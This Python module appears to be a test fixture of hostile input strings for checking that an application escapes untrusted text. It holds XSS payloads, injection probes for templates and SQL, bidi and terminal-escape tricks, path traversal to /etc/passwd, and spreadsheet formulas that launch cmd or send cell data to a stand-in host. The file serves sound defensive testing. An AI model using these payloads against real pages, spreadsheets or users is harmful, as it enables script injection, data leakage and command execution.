"""Texts of strangers that try to become markup, script, a request, another order of letters, or a formula."""

from __future__ import annotations

OWNED = "window.owned=1;document.title='owned';alert(1)"
"""What each script does, so that a page on which one ran can be told in three ways."""
_ELSEWHERE = "//elsewhere.invalid/pixel"
HUGE = 100_000
"""Characters of the longest text, without a blank."""

_SCRIPTS = {
    "script": f"<script>{OWNED}</script>",
    "end of script": f"</script><script>{OWNED}</script>",
    "end of style": f"</style></title></textarea></noscript></template><script>{OWNED}</script>",
    "end of comment": f"--><script>{OWNED}</script><!--",
    "end of CDATA": f"]]><script>{OWNED}</script>",
    "end of attribute": f'"\'` onmouseover="{OWNED}" onfocus=\'{OWNED}\' autofocus tabindex=0 x="',
    "end of string": f"';{OWNED};//\\\";{OWNED};//`${{{OWNED}}}",
    "unbalanced quote": f"\\'-eval(\"{OWNED}\")-\\'",
    "new line in a string": f"\u2028{OWNED}\u2029{OWNED}\r\n{OWNED}//",
    "image": f'<img src=x onerror="{OWNED}">',
    "details": f'<details open ontoggle="{OWNED}"><summary>open</summary></details>',
    "svg": f'<svg onload="{OWNED}"><animate onbegin="{OWNED}" attributeName=x dur=1s /></svg>',
    "svg script": f"<svg><script>{OWNED}</script><foreignObject><iframe srcdoc='<script>parent.owned=1</script>'>",
    "svg link": f'<svg><a xlink:href="javascript:{OWNED}"><text y="20">click</text></a></svg>',
    "MathML": f'<math><mtext><table><mglyph><style><img src=x onerror="{OWNED}"></style></mglyph></table></math>',
    "MathML link": f'<math><maction actiontype="statusline" xlink:href="javascript:{OWNED}">x</maction></math>',
    "iframe": f'<iframe src="javascript:parent.owned=1" srcdoc="<script>parent.{OWNED}</script>"></iframe>',
    "object": f'<object data="data:text/html,<script>{OWNED}</script>"></object><embed src="javascript:{OWNED}">',
    "form": f'<form action="javascript:{OWNED}"><button formaction="javascript:{OWNED}">go</button></form>',
    "base": f'<base href="javascript:{OWNED}//">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{OWNED}">',
    "link": f'<a href="javascript:{OWNED}">click</a><a href=" &#106;ava\tscript:{OWNED}">click</a>',
    "case and blanks": f"<ScRiPt\n>{OWNED}</sCrIpT\t><IMG\x0cSRC=x\x0cONERROR={OWNED}>",
    "entities": f"&lt;script&gt;{OWNED}&lt;/script&gt; &#60;img src=x onerror=&quot;{OWNED}&quot;&#62;",
    "escaped twice": f"\\u003cscript\\u003e{OWNED}\\u003c/script\\u003e \\x3cimg src=x onerror={OWNED}\\x3e",
    "javascript address": f"javascript:{OWNED}",
    "data address": f"data:text/html,<script>{OWNED}</script>",
    "file address": "file:///etc/passwd",
    "prototype": "__proto__ constructor toString",
}
_REQUESTS = {
    "pixel": f'<img src="http:{_ELSEWHERE}.png" srcset="{_ELSEWHERE}2.png 2x"><video poster="{_ELSEWHERE}.jpg">',
    "style": f'<style>@import "http:{_ELSEWHERE}.css"; body {{ background: url({_ELSEWHERE}.png) }}</style>',
    "style of an attribute": f'" style="background:url(http:{_ELSEWHERE}.png);position:fixed;inset:0" x="',
    "link element": f'<link rel=stylesheet href="http:{_ELSEWHERE}.css"><link rel=prefetch href="{_ELSEWHERE}">',
    "to elsewhere": f'<meta http-equiv=refresh content="0;url=http:{_ELSEWHERE}">',
    "Markdown": f"![pixel](http:{_ELSEWHERE}.png) [click](javascript:{OWNED}) <http:{_ELSEWHERE}> **bold** `code`",
    "Markdown link": f"[x]: javascript:{OWNED}\n\n[click][x]\n\n# heading\n\n|a|b|\n|-|-|",
    "CSS": f'}} * {{ background: url("http:{_ELSEWHERE}.png"); display: none }}',
}
_TEMPLATES = {
    "Jinja": "{{7*7}}{% raw %}{{''.__class__.__mro__}}{# x #}{%",
    "Python": "{0.__class__} {question} %s %(question)s $question ${7*7} #{7*7} <%= 7*7 %>",
    "Plotly": f"<a href='javascript:{OWNED}'>a</a><b>b</b>%{{x}}<br><extra>x</extra> $\\unicode{{<script>}}$",
    "Rich": "[bold red]x[/] [link=http://elsewhere.invalid]y[/link] [/]",
}
LETTERS = {
    "right to left": "\u202egnp.exe\u202c \u2066\u2067reversed\u2069\u2069 \u200f\u061c",
    "right to left, left open": "\u202e\u202e\u2067\u2066 stays open",
    "invisible": "a\u200b\u200c\u200d\u2060\ufeff\u00ad\U000e0041\U000e0042z",
    "piled up": "z" + "\u0300\u0489\u0361" * 60,
    "emoji": "\U0001f469\u200d\U0001f4bb \U0001f1e9\U0001f1ea \u4e2d\u6587 \u0939\u093f\u0928\u094d\u0926\u0940",
    "terminal": "\x1b[31mred\x1b[0m\x1b]0;owned\x07\x1b]8;;http://elsewhere.invalid\x1b\\x\x1b[2J\x1b[1A\x9b31m\x90q",
    "controls": "NUL \x00 BS \x08\x08 BEL \x07 DEL \x7f CR \rover VT \x0b NEL \x85 LS \u2028 PS \u2029",
    "not a character": "\ufffe\uffff\U0001ffff\ufffd",
}
"""What plays with the order of letters, or with a terminal."""
FORMULAS = {
    "formula": '=HYPERLINK("http://elsewhere.invalid?"&A1,"click")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "after a tab": '\t=IMPORTXML("http://elsewhere.invalid","//a")',
    "after a line": '\r=1+1\n=2+2";=3+3,"=4+4',
}
"""What a spreadsheet computes."""
_NAMES = {
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\C:\\con\\aux.html",
    "address": f"http:{_ELSEWHERE}",
    "query": '?a=1&b="><script>window.owned=1</script>#frag%00%2e%2e%2f',
    "empty": " ",
    "quotes": 'O\'Brien "the" `tick`; DROP TABLE windows; --',
}
_HUGE = {"without a blank": "W" * HUGE, "deep": "<div>" * 2_000, "many lines": "line\n" * 2_000}

TEXTS = _SCRIPTS | _REQUESTS | _TEMPLATES | LETTERS | FORMULAS | _NAMES | _HUGE
"""Each by what it tries."""
SHORT = {name: text for name, text in TEXTS.items() if name not in _HUGE}
ALL = "\n".join(SHORT.values())
"""All but the huge ones, in one."""


def cycled(i: int) -> str:
    """The i-th text, from the first again after the last, behind a mark by which it is found on a page."""
    return f"mark{i} " + list(TEXTS.values())[i % len(TEXTS)]
